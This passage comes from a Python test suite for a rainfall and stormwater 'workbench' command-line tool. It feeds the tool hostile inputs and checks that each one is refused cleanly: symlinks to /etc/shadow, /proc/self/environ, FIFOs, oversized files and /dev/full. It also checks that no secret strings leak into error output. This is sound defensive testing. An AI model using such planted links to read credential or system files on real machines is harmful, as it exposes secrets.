            data = json.loads(json.dumps(livingston))
            data["rainfall"]["record_csv"] = record
            write_json(d / "t.json", data)
            if needs == "project":
                project = new_project("R")
                project.add_site(load(d / "t.json"), name="Site R")
                save_project(project, d / "R.swproj")
                close_project(project)
            (d / "record.txt").write_text(record, encoding="utf-8")

        return setup

    cases = []
    for label, plant in planted.items():
        if label == "/proc/self/environ" and not Path(label).exists():
            continue
        if label == "symlink to /etc/shadow" and not Path("/etc/shadow").exists():
            continue
        for command, argv in commands.items():
            needs = "project" if command == "evaluate project" else "scenario"
            cases.append(
                Case(
                    "rainfall record",
                    f"{command}: {label}",
                    ["{r}" if a == "{r}" else a for a in argv],
                    REFUSE,
                    setup_for(plant, needs),
                )
            )
    for label, plant in (("FIFO", _fifo), ("not CSV text", planted["not CSV text"])):
        if label == "FIFO" and not hasattr(os, "mkfifo"):
            continue
        cases.append(
            Case(
                "rainfall record",
                f"rainfall extract: {label} as the project",
                ["rainfall", "extract", "{r}"],
                REFUSE,
                setup_for(plant, "scenario"),
            )
        )
    cases += [
        Case(
            "rainfall record",
            "rainfall extract: a record the project does not keep",
            ["rainfall", "extract", "{d}/P.swproj", "--name", "nope.csv", "--out", "{d}/o.csv"],
            REFUSE,
            base_files,
        ),
        Case(
            "rainfall record",
            "rainfall import --out: a project under another name",
            ["rainfall", "import", "{d}/rain.csv", "--out", "{d}/renamed.db"],
            REFUSE,
            _record_and_renamed_project,
        ),
        Case(
            "rainfall record",
            "rainfall extract --out: a project under another name",
            [
                "rainfall",
                "extract",
                "{d}/R.swproj",
                "--name",
                "rain.csv",
                "--out",
                "{d}/renamed.db",
            ],
            REFUSE,
            _record_and_renamed_project,
        ),
        Case(
            "rainfall record",
            "rainfall import --out: the input by a symlink",
            ["rainfall", "import", "{d}/rain.csv", "--out", "{d}/link.csv"],
            REFUSE,
            _record_and_link,
        ),
        Case(
            "rainfall record",
            "rainfall import --out: /dev/full",
            ["rainfall", "import", "{d}/rain.csv", "--out", "/dev/full"],
            REFUSE,
            _record_and_renamed_project,
        ),
        Case(
            "rainfall record",
            "evaluate scenario: a download not imported yet",
            ["evaluate", "{d}/t.json"],
            REFUSE,
            setup_for(lambda d: _planted(d, IEM_DOWNLOAD.encode()), "scenario"),
        ),
        Case(
            "rainfall record",
            "rainfall report: a download not imported yet",
            ["rainfall", "report", "{r}", "--json", "--source-tz", "UTC", "--lst-offset", "-8"],
            OK,
            setup_for(lambda d: _planted(d, IEM_DOWNLOAD.encode()), "scenario"),
            json_out,
        ),
        Case(
            "rainfall record",
            "evaluate scenario: a good record",
            ["evaluate", "{d}/t.json", "--json"],
            OK,
            setup_for(lambda d: _planted(d, RAIN_RECORD.encode()), "scenario"),
            record_in_use("file"),
        ),
        Case(
            "rainfall record",
            "evaluate project: the kept copy, no file",
            ["evaluate", "{d}/R.swproj", "--json"],
            OK,
            _kept_record_project,
            record_in_use("project"),
        ),
    ]
    return cases


def _planted(d: Path, content: bytes | None) -> str:
    path = d / "rain.csv"
    if content is None:
        with path.open("wb") as handle:
            handle.truncate(300 * 1024 * 1024)
    else:
        path.write_bytes(content)
    return "rain.csv"


def _symlinked(d: Path, target: str) -> str:
    (d / "rain.csv").symlink_to(target)
    return "rain.csv"


def _fifo(d: Path) -> str:
    os.mkfifo(d / "rain.csv")
    return "rain.csv"


def _kept_record_project(d: Path) -> None:
    from workbench.core.store import StoredRecord

    base_files(d)
    data = json.loads((ROOT / "resources/demo/livingston.json").read_text("utf-8"))
    data["rainfall"]["record_csv"] = "rain.csv"
    write_json(d / "t.json", data)
    project = new_project("R")
    project.add_site(load(d / "t.json"), name="Site R")
    project.rainfall_records["rain.csv"] = StoredRecord("rain.csv", RAIN_RECORD.encode())
    save_project(project, d / "R.swproj")
    close_project(project)


def _record_and_renamed_project(d: Path) -> None:
    _kept_record_project(d)
    (d / "rain.csv").write_text(RAIN_RECORD, encoding="utf-8")
    (d / "renamed.db").write_bytes((d / "P.swproj").read_bytes())


def _record_and_link(d: Path) -> None:
    base_files(d)
    (d / "rain.csv").write_text(RAIN_RECORD, encoding="utf-8")
    (d / "link.csv").symlink_to(d / "rain.csv")


def record_in_use(origin: str) -> Check:
    def check(_d: Path, stdout: str) -> None:
        data = json.loads(stdout)
        docs = data["sites"] if "sites" in data else [data]
        for doc in docs:
            for result in doc["results"]:
                assert result["rainfall_record"]["in_use"]["origin"] == origin

    return check


def concurrency() -> list[Case]:
    return [
        Case(
            "concurrency",
            "evaluate a project open elsewhere",
            ["evaluate", "{d}/P.swproj", "--json"],
            OK,
            base_files,
            json_out,
            hold="{d}/P.swproj",
        ),
        Case(
            "concurrency",
            "export a project open elsewhere",
            ["export", "{d}/P.swproj", "--xlsx", "{d}/o.xlsx"],
            OK,
            base_files,
            xlsx_ok("o.xlsx"),
            hold="{d}/P.swproj",
        ),
        Case(
            "concurrency",
            "export a scenario of a project open elsewhere",
            ["export", "{d}/P.swproj", "--scenario", "{d}/o.json", "--site", "Site B"],
            OK,
            base_files,
            scenario_ok("o.json"),
            hold="{d}/P.swproj",
        ),
        Case(
            "concurrency",
            "import into a project open elsewhere",
            ["import", "{d}/s.json", "--project", "{d}/P.swproj"],
            REFUSE,
            base_files,
            hold="{d}/P.swproj",
        ),
        Case(
            "concurrency",
            "export onto a project open elsewhere",
            ["export", "{d}/s.json", "--xlsx", "{d}/P.swproj"],
            REFUSE,
            base_files,
            hold="{d}/P.swproj",
        ),
    ]


CASES = (
    malformed_scenarios()
    + good_scenarios()
    + hostile_names()
    + output_paths()
    + links_and_locks()
    + bad_projects()
    + bounds()
    + rainfall_records()
    + concurrency()
)


def test_the_harness_tries_at_least_316_inputs() -> None:
    assert len(CASES) >= 316, len(CASES)
    assert len({(c.kind, c.name) for c in CASES}) == len(CASES), "case names must be unique"


def _fill(value: str, d: Path) -> str:
    return value.replace("{d}", str(d))


@pytest.mark.parametrize("case", CASES, ids=[f"{c.kind}: {c.name}" for c in CASES])
def test_attack(case: Case, tmp_path: Path) -> None:
    d = tmp_path / "case"
    d.mkdir()
    if case.setup:
        case.setup(d)
    argv = [_fill(a, d) for a in case.argv]
    if "{r}" in case.argv:  # the planted rainfall record, as the scenario names it
        record = (d / "record.txt").read_text("utf-8")
        argv = [str(d / record) if a == "{r}" else a for a in argv]
    holder = open_project(_fill(case.hold, d)) if case.hold else None
    try:
        before = snapshot(d)
        code, stdout, stderr = run_cli(argv)
        after = snapshot(d)
    finally:
        if holder is not None:
            close_project(holder)
    if case.expect == REFUSE:
        assert code == 2, f"exit {code}, stderr {stderr!r}, stdout {stdout[:200]!r}"
        assert stderr.count("\n") == 1 and stderr.endswith("\n"), stderr
        assert stdout == "", stdout[:200]
        assert after == before, "a refused command changed or added files"
        if case.kind == "rainfall record":  # nothing of the file is quoted
            for secret in ("PATH=", "HOME=", "root:", "daemon:", "/secret"):
                assert secret not in stderr, stderr
    else:
        assert code == 0, f"exit {code}, stderr {stderr!r}"
        assert stderr == "", stderr
        assert not [p for p in after if p.endswith((".part", ".tmp"))], "temporary file left"
        if case.check:
            case.check(d, stdout)


# --------------------------------------------------------------------------- in a real process
def _workbench(argv: list[str], env: dict[str, str] | None = None, stdout: Any = None):
    return subprocess.run(
        [sys.executable, "-m", "workbench", *argv],
        stdout=subprocess.PIPE if stdout is None else stdout,
        stderr=subprocess.PIPE,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen", **(env or {})},
        timeout=240,
    )


@pytest.mark.slow
@pytest.mark.parametrize("as_json", [True, False], ids=["json", "text"])
def test_cp1252_stdout_redirected_to_a_file(tmp_path: Path, as_json: bool) -> None:
    data = scenario(name="Nguyễn Phát market \u2603", drainage_areas__0__name="Phát")
    path = write_json(tmp_path / "s.json", data)
    argv = ["evaluate", str(path)] + (["--json"] if as_json else [])
    out = tmp_path / "out.txt"
    with out.open("wb") as handle:
        result = _workbench(argv, {"PYTHONIOENCODING": "cp1252"}, stdout=handle)
    assert result.returncode == 0, result.stderr
    raw = out.read_bytes()
    text = raw.decode("cp1252")
    if as_json:
        assert json.loads(text)["scenario"] == "Nguyễn Phát market \u2603"
    else:
        assert "Nguy\\u1ec5n Ph\xe1t market" in text


@pytest.mark.slow
def test_report_refusals_are_one_line_in_a_real_process(tmp_path: Path) -> None:
    path = write_json(tmp_path / "s.json", BASE)
    for out in (path, tmp_path / "x.swproj", tmp_path / "missing" / "r.pdf", Path("/dev/full")):
        result = _workbench(["report", str(path), "--out", str(out)])
        assert result.returncode == 2, result.stderr
        assert result.stderr.count(b"\n") == 1, result.stderr
    assert json.loads(path.read_text("utf-8")) == BASE


@pytest.mark.slow
def test_a_report_to_a_read_only_folder_is_one_line(tmp_path: Path) -> None:
    if os.geteuid() == 0 if hasattr(os, "geteuid") else False:
        pytest.skip("root writes into read-only folders; the full-disk test covers this path")
    path = write_json(tmp_path / "s.json", BASE)
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        result = _workbench(["report", str(path), "--out", str(folder / "r.pdf")])
    finally:
        folder.chmod(0o755)
    assert result.returncode == 2 and result.stderr.count(b"\n") == 1, result.stderr
    assert list(folder.iterdir()) == []
